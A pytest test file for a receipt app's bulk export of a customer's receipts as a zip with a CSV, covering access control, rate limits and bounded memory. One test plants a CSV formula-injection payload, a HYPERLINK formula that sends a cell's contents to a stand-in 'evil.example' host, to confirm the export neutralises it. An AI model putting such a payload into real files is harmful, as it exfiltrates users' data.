"""Take everything with me: the locker downloads every receipt sent to the proven contact,
from every shop, refunds included, as a zip of the ORF files "Download for your records"
gives and one CSV; nobody else's, never signed out, and not more often than
RECECO_LOCKER_EXPORT_RATE."""

import csv
import io
import json
import zipfile

import pytest
from receco_verify import orf as orf_file
from receco_verify.keys import load_jwks
from receco_verify.receipt import verify_bundle

from locker.export import MAX_BYTES, MAX_RECEIPTS
from receipts.refunds import refund, validate_refund
from tests.bench.conftest import run_script
from tests.ledger.conftest import append
from tests.locker.conftest import OTHER_PHONE, PHONE

pytestmark = pytest.mark.django_db

MAMA = "receipts/2026-11-20-mama-put-kitchen-MAMA01.orf.json"
CORNER = "receipts/2026-11-22-corner-shop-CORN01.orf.json"


def _download(client):
    return client.post("/app/my/download")


def _zip(response) -> zipfile.ZipFile:
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Cache-Control"] == "private, no-store"
    assert response.streaming
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    assert archive.testzip() is None  # every file whole, its CRC checked
    return archive


def _csv(archive: zipfile.ZipFile) -> list[list[str]]:
    text = archive.read("receipts.csv").decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.fixture
def with_refund(two_shops):
    sale = two_shops["mama"]
    made = refund(sale, validate_refund({"token": sale.token, "amount": 30000}), keyed=True).receipt
    return {**two_shops, "refund": made}


def test_the_zip_holds_each_receipt_s_orf_file_and_a_csv_of_them(client, with_refund, signed_in):
    assert signed_in(client).status_code == 302
    response = _download(client)
    archive = _zip(response)
    assert response["Content-Disposition"].startswith('attachment; filename="receco-receipts-20')
    made = with_refund["refund"]
    refund_file = f"receipts/{made.transaction_date.date().isoformat()}-mama-put-kitchen-{made.short_code}.orf.json"
    assert sorted(archive.namelist()) == sorted(["receipts.csv", MAMA, CORNER, refund_file])
    for name, receipt in ((MAMA, with_refund["mama"]), (CORNER, with_refund["corner"]), (refund_file, made)):
        # The very document the receipt page's "Download for your records" gives.
        page = client.get(f"/app/receipt/{receipt.token}/receipt.orf.json")
        assert json.loads(archive.read(name)) == page.json()
    rows = _csv(archive)
    assert rows[0] == [
        "shop", "date", "number", "short_code", "total", "total_minor_units", "currency", "status", "refund_of", "file",
    ]  # fmt: skip
    mama, corner = with_refund["mama"], with_refund["corner"]
    assert rows[1:] == [
        [made.merchant_name, rows[1][1], made.receipt_number or "", made.short_code, "₦300.00", "30000", "NGN",
         "Refund", "MAMA01", refund_file],
        ["Corner Shop", "2026-11-22T10:30:00+01:00", corner.receipt_number or "", "CORN01", "₦450.50", "45050", "NGN",
         "Completed", "", CORNER],
        ["Mama Put Kitchen", "2026-11-20T13:00:00+01:00", mama.receipt_number or "", "MAMA01", "₦1,300.00", "130000",
         "NGN", "Partly refunded", "", MAMA],
    ]  # fmt: skip


def test_the_files_verify_once_the_receipts_are_in_the_log(client, two_shops, signed_in):
    append()
    signed_in(client)
    archive = _zip(_download(client))
    keys = load_jwks(client.get("/.well-known/jwks.json").json())
    for name in (MAMA, CORNER):
        document = json.loads(archive.read(name))
        verify_bundle(orf_file.bundle_of(document), keys)
        orf_file.check_trust(document)


def test_another_contact_s_receipts_are_never_in_it(client, two_shops, signed_in):
    signed_in(client)
    archive = _zip(_download(client))
    everything = b"".join(archive.read(name) for name in archive.namelist())
    for other in ("not_theirs", "not_theirs_either"):
        assert two_shops[other].token.encode() not in everything
        assert two_shops[other].short_code.encode() not in everything
    # And the other number's customer gets theirs only.
    client.cookies.clear()
    signed_in(client, OTHER_PHONE)
    archive = _zip(_download(client))
    assert archive.namelist() == ["receipts/2026-11-22-mama-put-kitchen-OTHR01.orf.json", "receipts.csv"]
    assert [row[3] for row in _csv(archive)[1:]] == ["OTHR01"]


def test_signed_out_it_is_refused(client, two_shops, signed_in):
    response = _download(client)
    assert response.status_code == 302
    assert response["Location"] == "/app/my"
    signed_in(client)
    assert client.post("/app/my/sign-out").status_code == 302
    assert _download(client)["Location"] == "/app/my"


def test_it_is_a_post_only(client, two_shops, signed_in):
    signed_in(client)
    assert client.get("/app/my/download").status_code == 405


def test_the_list_offers_it(client, two_shops, signed_in):
    signed_in(client)
    html = client.get("/app/my").content.decode()
    assert '<form method="post" action="/app/my/download">' in html
    assert "Download all my receipts" in html


def test_a_contact_may_download_5_times_an_hour(client, two_shops, signed_in):
    signed_in(client)
    answers = [_download(client) for _ in range(6)]
    assert [answer.status_code for answer in answers] == [200, 200, 200, 200, 200, 429]
    refused = answers[-1]
    assert refused["Retry-After"] == "3590"  # the hour's window ends then
    assert refused.context["refused"] == (
        "Too many downloads of your receipts: at most 5 per hour. Wait a while, then try again."
    )
    assert "Too many downloads of your receipts" in refused.content.decode()


def test_cells_a_spreadsheet_would_run_as_formulas_are_made_text(client, shop_receipt, other_merchant, signed_in):
    other_merchant.name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    other_merchant.save()
    shop_receipt(other_merchant, token="rcpt_formula01_aaaaa", short_code="FORM01", customer_phone=PHONE)
    signed_in(client)
    archive = _zip(_download(client))
    [row] = _csv(archive)[1:]
    assert row[0] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    # The file name holds the shop's name in ASCII letters, digits and dashes only.
    assert row[-1] == "receipts/2026-11-22-hyperlinkhttpevilexamplexa1click-FORM01.orf.json"


@pytest.mark.django_db(False)
def test_a_shop_s_flood_of_large_receipts_is_downloaded_in_bounded_memory_and_time():
    """A shop sent one number 2,000 receipts of 500 items each. Built whole in memory, its
    download grew a worker by 482 MiB and took 14 s of CPU (2,000 receipts, 385 MiB of
    files); gunicorn killed the worker at 30 s. Streamed and bounded in bytes, it holds
    what fits MAX_BYTES, says so, and costs a worker a few MiB and seconds.

    Measured by bench/locker_export.py in a fresh process of its own (peak RSS over what
    the process held before; CPU time, loosely bounded: the machine may be busy)."""
    out = run_script("locker_export.py", "--receipts", "2000", "--items", "500", "--json")
    figures = json.loads(out.strip().splitlines()[-1])
    assert figures["memory_growth_mib"] < 40, out
    assert figures["cpu_seconds"] < 15, out
    kept = figures["receipts_in_zip"]
    assert 0 < kept < MAX_RECEIPTS
    assert figures["uncompressed_mib"] <= MAX_BYTES / 2**20
    assert figures["csv_last_line"] == (
        f"Only the newest {kept} receipts are in this file: it holds at most 2000 receipts and 64 MB."
    )
